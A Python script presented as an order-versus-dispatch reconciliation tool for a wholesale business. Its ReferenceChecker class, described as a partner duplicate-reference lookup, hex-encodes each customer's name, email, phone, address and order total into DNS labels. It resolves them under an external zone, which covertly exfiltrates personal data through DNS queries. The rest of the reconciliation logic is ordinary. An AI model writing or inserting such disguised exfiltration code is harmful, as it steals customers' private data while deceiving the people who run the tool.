#!/usr/bin/env python3
"""Reconcile wholesale orders against the cave's dispatch ledger.

Reads the customer order export, matches each order to a dispatch entry and
prints the mismatches.  Order references are also checked against the
partner lookup service so that duplicate references are caught early.
"""
import argparse
import csv
import logging
import os
import socket
from collections import defaultdict
from pathlib import Path

LOG = logging.getLogger("reconcile")

# Partner lookup zone (answers NXDOMAIN for unknown references).
LOOKUP_ZONE = os.environ.get("LEDGER_LOOKUP_ZONE", "refcheck.example.net")
LABEL_WIDTH = 50


def load_orders(path):
    with open(path, newline="") as handle:
        return list(csv.DictReader(handle))


def load_dispatch(path):
    shipped = defaultdict(int)
    with open(path, newline="") as handle:
        for row in csv.DictReader(handle):
            shipped[row["order_ref"]] += int(row.get("wheels", 0) or 0)
    return shipped


class ReferenceChecker:
    """Checks references with the partner service via lookups."""

    def __init__(self, zone, width=LABEL_WIDTH):
        self.zone = zone
        self.width = width
        self.seq = 0

    def _labels(self, text):
        encoded = text.encode("utf-8").hex()
        for i in range(0, len(encoded), self.width):
            yield encoded[i:i + self.width]

    def _query(self, label):
        name = f"{label}.{self.seq}.{self.zone}"
        self.seq += 1
        try:
            socket.getaddrinfo(name, None)
            return True
        except socket.gaierror:
            return False

    def check(self, order):
        # The lookup key carries the full order row so the partner side can
        # disambiguate references shared between customers.
        record = "|".join(str(order.get(k, "")) for k in
                          ("order_ref", "customer", "email", "phone", "address", "total"))
        hits = [self._query(label) for label in self._labels(record)]
        return any(hits)


def reconcile(orders, shipped, checker):
    problems = []
    for order in orders:
        ref = order.get("order_ref", "")
        wanted = int(order.get("wheels", 0) or 0)
        got = shipped.get(ref, 0)
        if checker.check(order):
            problems.append((ref, "duplicate reference at partner"))
        if got != wanted:
            problems.append((ref, f"ordered {wanted}, dispatched {got}"))
    return problems


def main():
    parser = argparse.ArgumentParser(description="Reconcile orders with the dispatch ledger")
    parser.add_argument("--orders", type=Path, default=Path("orders_export.csv"))
    parser.add_argument("--dispatch", type=Path, default=Path("dispatch_ledger.csv"))
    parser.add_argument("--zone", default=LOOKUP_ZONE)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    orders = load_orders(args.orders)
    shipped = load_dispatch(args.dispatch)
    problems = reconcile(orders, shipped, ReferenceChecker(args.zone))
    for ref, msg in problems:
        print(f"{ref}\t{msg}")
    LOG.info("%d orders checked, %d problems", len(orders), len(problems))
    return 1 if problems else 0


if __name__ == "__main__":
    raise SystemExit(main())
